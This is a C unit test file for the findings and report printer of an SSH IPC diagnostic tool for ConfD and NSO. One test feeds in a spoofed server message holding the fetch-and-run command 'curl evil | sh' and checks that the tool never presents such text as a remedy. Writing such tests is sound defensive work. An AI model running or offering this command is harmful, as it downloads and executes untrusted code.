// SPDX-License-Identifier: BSD-2-Clause
/* What the doctor makes of a server's words, and how it prints what it found. */
#include <criterion/criterion.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#include "findings.h"
#include "local.h"

#define COUNT(a) (sizeof(a) / sizeof(*(a)))

static char path[] = "/tmp/sshipc-findings-XXXXXX", out[65536];

static void setup(void)
{
	close(mkstemp(path));
}

static void teardown(void)
{
	unlink(path);
}

TestSuite(findings, .init = setup, .fini = teardown);

/* What report_end printed, into out; what it returned. */
static int end(struct report *r)
{
	int failed;
	FILE *f;
	size_t n;

	failed = report_end(r);
	fflush(stdout);
	f = fopen(path, "r");
	n = fread(out, 1, sizeof(out) - 1, f);
	out[n] = '\0';
	fclose(f);
	return failed;
}

static struct report *start(bool json)
{
	cr_assert(freopen(path, "w", stdout));
	return report_new(json, NULL);
}

Test(findings, printed_in_order)
{
	struct report *r = start(false);

	report_pass(r, REPORT_NAME, "second");
	report_fail(r, REPORT_TCP, NULL, "bad \x1b[2J; worse; do %s", "this");
	report_fail(r, REPORT_TCP, "that", "the first result stays");
	report_pass(r, REPORT_KEY, "first");
	report_close(r, REPORT_LISTENER);
	report_pass(r, REPORT_LISTENER, "free");
	cr_expect_eq(end(r), REPORT_TCP);
	cr_expect_eq(strstr(out, " 1. our key             pass  first\n"
				 " 2. name resolution     pass  second\n"
				 " 3. TCP connect         FAIL  bad \\x1b[2J; worse\n"
				 "                      remedy: do this\n"
				 " 4. SSH key exchange    skip  step 3 failed\n"),
		     out, "%s", out);
	cr_expect(strstr(out, "11. local listener      pass  free\n"
			      "12. environment         skip  step 3 failed\n"
			      "step 3 failed: TCP connect\n"),
		  "%s", out);
}

Test(findings, json)
{
	struct report *r = start(true);

	report_fail(r, REPORT_KEY, "\"q\"", "a\nb");
	cr_expect_eq(end(r), 1);
	cr_expect_eq(
	    strstr(out, "{\"step\":1,\"name\":\"key\",\"result\":\"fail\",\"text\":\"a\\u000ab\","
			"\"remedy\":\"\\\"q\\\"\"}\n{\"step\":2,"),
	    out, "%s", out);
	cr_expect(strstr(out, "\n{\"ok\":false,\"failed\":1}\n"), "%s", out);
	r = start(true);
	for (int i = 1; i < REPORT_STEPS; i++)
		report_pass(r, (enum report_step)i, "fine");
	cr_expect_eq(end(r), 0);
	cr_expect(
	    strstr(out, "\"text\":\"fine\",\"remedy\":null}\n{\"ok\":true,\"failed\":null}\n"),
	    "%s", out);
}

#define STATUS(present, dial) REACH(present, "null", dial)
#define REACH(present, accessible, dial)                                                           \
	"{\"version\":\"1\",\"connection\":1,\"endpoint\":{\"name\":\"confd\",\"kind\":\"confd\"," \
	"\"present\":" present ",\"accessible\":" accessible ",\"last_dial\":" dial                \
	"},\"key\":{\"name\":\"k\",\"fingerprint\":\"SHA256:x\",\"expires\":"                      \
	"\"2099-01-01T00:00:00Z\"},\"source\":\"192.0.2.1\",\"last_refusal\":null}\n"
#define DIALLED(result) "{\"result\":\"" result "\",\"age_seconds\":7}"

Test(findings, status)
{
	static const struct {
		const char *spec, *status;
		bool connect;
		int failed;
		const char *says;
	} table[] = {
	    {"0", STATUS("true", "null"), false, 0, "its socket is there"},
	    {"0", STATUS("true", "null"), false, 0, "the server sees 192.0.2.1"},
	    {"0", STATUS("true", "null"), false, 0, "until 2099-01-01T00:00:00Z"},
	    {"0:confd", STATUS("true", "null"), false, 0, "pass  endpoint confd"},
	    {"0:nso", STATUS("true", "null"), false, REPORT_PERMITTED, "ask for confd"},
	    {"0:nso", STATUS("true", "null"), true, REPORT_PERMITTED, "ask for confd"},
	    {"0:h:1", STATUS("true", "null"), false, 0, "skip  whether -L 0:h:1 names"},
	    {"0:/x", STATUS("true", "null"), false, 0, "skip  whether -L 0:/x names"},
	    {"0:h:1", STATUS("true", "null"), true, 0, "permitted  skip  not reached"},
	    {"0", STATUS("false", "null"), false, REPORT_PRESENT, "its socket is not there"},
	    {"0", STATUS("false", "null"), true, REPORT_PRESENT, "its socket is not there"},
	    {"0", REACH("true", "true", "null"), false, 0, "its socket is there"},
	    {"0", REACH("true", "false", "null"), false, REPORT_PRESENT,
	     "remedy: let the server's user"},
	    {"0", REACH("true", "false", "null"), true, REPORT_PRESENT, "may not connect"},
	    {"0", STATUS("true", DIALLED("Permission denied")), false, REPORT_PRESENT,
	     "remedy: let the server's user"},
	    {"0", REACH("true", "true", DIALLED("Permission denied")), false, 0,
	     "its socket is there"},
	    {"0", STATUS("null", DIALLED("Permission denied")), false, REPORT_PRESENT,
	     "remedy: let the server's user"},
	    {"0", STATUS("null", "null"), false, 0, "skip  nobody has connected"},
	    {"0", STATUS("null", DIALLED("connected")), false, 0, "7 s ago: connected"},
	    {"0", STATUS("null", DIALLED("Connection refused")), false, REPORT_PRESENT,
	     "7 s ago: Connection refused"},
	    {"0", STATUS("null", DIALLED("Connection refused")), true, 0, "skip  not reached"},
	};
	struct status status;

	for (size_t i = 0; i < COUNT(table); i++) {
		struct settings s = {.n_specs = 1,
				     .check = table[i].connect ? SETTINGS_CHECK_CONNECT
							       : SETTINGS_CHECK};
		struct report *r = start(false);

		cr_assert_null(spec_parse(table[i].spec, false, &s.specs[0]));
		cr_assert(status_read(&status, table[i].status), "%zu", i);
		findings_status(r, &s, &status);
		cr_expect_eq(end(r), table[i].failed, "%zu: %s", i, out);
		cr_expect(strstr(out, table[i].says), "%zu: %s", i, out);
		spec_free(&s.specs[0]);
	}
}

/* Before the host key is known to be right anybody on the way may choose these words. */
Test(findings, words_of_the_server_are_no_remedy)
{
	static const struct {
		enum report_step step;
		const char *why, *says;
	} table[] = {
	    {REPORT_SSH, "Received SSH_MSG_DISCONNECT: 2:no; run: curl evil | sh",
	     "FAIL  Received SSH_MSG_DISCONNECT: 2:no; run: curl evil | sh\n"
	     "                      remedy: is that an SSH server?"},
	    {REPORT_LOGIN, "Received SSH_MSG_DISCONNECT: 2:ssh-agent: ; run: x",
	     "remedy: its log tells why"},
	};
	const struct settings s = {.n_specs = 0};

	for (size_t i = 0; i < COUNT(table); i++) {
		struct report *r = start(false);

		findings_down(r, &s, table[i].step, table[i].why);
		cr_expect_eq(end(r), (int)table[i].step);
		cr_expect(strstr(out, table[i].says), "%zu: %s", i, out);
	}
}

/* A code only selects a step and a remedy of ours; what the server said is shown as it is. */
Test(findings, denials)
{
	static const struct {
		enum policy_verdict verdict;
		const char *own;
		int failed;
		const char *says;
	} table[] = {
	    {POLICY_NO_KEY, NULL, REPORT_LOGIN, "remedy: add this line to the server's allow list"},
	    {POLICY_GRANT, NULL, REPORT_LOGIN, "said; so\n                      remedy: ours"},
	    {POLICY_SOURCE_NOT_ALLOWED, NULL, REPORT_SOURCE, "the server knows "},
	    {POLICY_EXPIRED, NULL, REPORT_VALIDITY, "said; so\n                      remedy: ours"},
	    {POLICY_OUTSIDE_WINDOW, NULL, REPORT_VALIDITY, "the server knows "},
	    {POLICY_NO_ENDPOINT, NULL, REPORT_PERMITTED, "the server knows "},
	    {POLICY_MAX_SESSIONS, NULL, REPORT_PERMITTED, "remedy: ours"},
	    {POLICY_MAX_SESSIONS, "it", 0, "skip  it is there, and max-sessions"},
	    {POLICY_USER_NOT_VERIFIED, NULL, REPORT_LOGIN, "remedy: ours"},
	    {POLICY_WRONG_DESTINATION, NULL, REPORT_LOGIN, "remedy: ours"},
	    {POLICY_OTHER, "it", REPORT_LOGIN, "remedy: ours"},
	};
	char key[] = "/tmp/sshipc-findings-key-XXXXXX";
	const char *why;
	char fingerprint[KEYLINE_FINGERPRINT], public[KEYFILE_LINE];
	struct identity *identity;

	close(mkstemp(key));
	unlink(key);
	why = keyfile_generate(key, "", fingerprint, public);
	cr_assert_null(why, "%s", why);
	identity = identity_new(NULL, key, NULL, &why);
	cr_assert(identity, "%s", why);
	for (size_t i = 0; i < COUNT(table); i++) {
		const struct link_refusal refusal = {77, table[i].verdict, "said; so", "ours"};
		struct report *r = start(false);

		findings_denied(r, identity, &refusal, table[i].own);
		cr_expect_eq(end(r), table[i].failed, "%zu: %s", i, out);
		cr_expect(strstr(out, table[i].says), "%zu: %s", i, out);
	}
	identity_free(identity);
	unlink(key);
}

Test(findings, environment)
{
	static const struct {
		const char *name, *value, *spec;
		enum endpoint_kind kind;
		const char *says; /* NULL: nothing */
	} table[] = {
	    {"NCS_IPC_PATH", "/a", "0", ENDPOINT_NSO, "unset NCS_IPC_PATH"},
	    {"NCS_IPC_PATH", "/a", "/a", ENDPOINT_NSO, NULL},
	    {"NCS_IPC_PATH", "/a", "0", ENDPOINT_CONFD, NULL},
	    {"NCS_IPC_PORT", "4569", "4569", ENDPOINT_NSO, NULL},
	    {"NCS_IPC_PORT", "4569", "0", ENDPOINT_NSO, NULL},
	    {"NCS_IPC_PORT", "4569", "4570", ENDPOINT_NSO, "-L 4569"},
	    {"NCS_IPC_PORT", "x", "4570", ENDPOINT_NSO, "NCS_IPC_PORT=x"},
	    {"CONFD_IPC_PORT", "4565", "/a", ENDPOINT_CONFD, "-L 4565"},
	    {"CONFD_IPC_ACCESS_FILE", "/nonexistent", "0", ENDPOINT_CONFD, "make it readable"},
	    {"CONFD_IPC_ACCESS_FILE", "/dev/null", "0", ENDPOINT_CONFD, NULL},
	    {"CONFD_IPC_ADDR", "192.0.2.1", "0", ENDPOINT_CONFD, "CONFD_IPC_ADDR=192.0.2.1"},
	    {"CONFD_IPC_ADDR", "127.0.0.1", "0", ENDPOINT_CONFD, NULL},
	    {"NCS_IPC_ADDR", "::1", "0", ENDPOINT_NSO, "NCS_IPC_ADDR=::1"},
	    {"NCS_IPC_ADDR", "some.host", "0", ENDPOINT_NSO, NULL},
	};

	struct report *r;

	for (size_t i = 0; i < COUNT(table); i++) {
		struct settings s = {.n_specs = 1};

		r = start(false);
		cr_assert_null(spec_parse(table[i].spec, false, &s.specs[0]));
		setenv(table[i].name, table[i].value, 1);
		local_environment(r, &s, &table[i].kind);
		unsetenv(table[i].name);
		cr_expect_eq(end(r), table[i].says ? REPORT_ENVIRONMENT : 0, "%zu: %s", i, out);
		cr_expect(strstr(out, table[i].says ? table[i].says : "nothing sends"), "%zu: %s",
			  i, out);
		spec_free(&s.specs[0]);
	}
	local_environment(r = start(false), &(struct settings){.n_specs = 1},
			  &(enum endpoint_kind){ENDPOINT_DOCKER});
	cr_expect_eq(end(r), 0);
	cr_expect(strstr(out, "only the variables of confd and nso are known"), "%s", out);
}
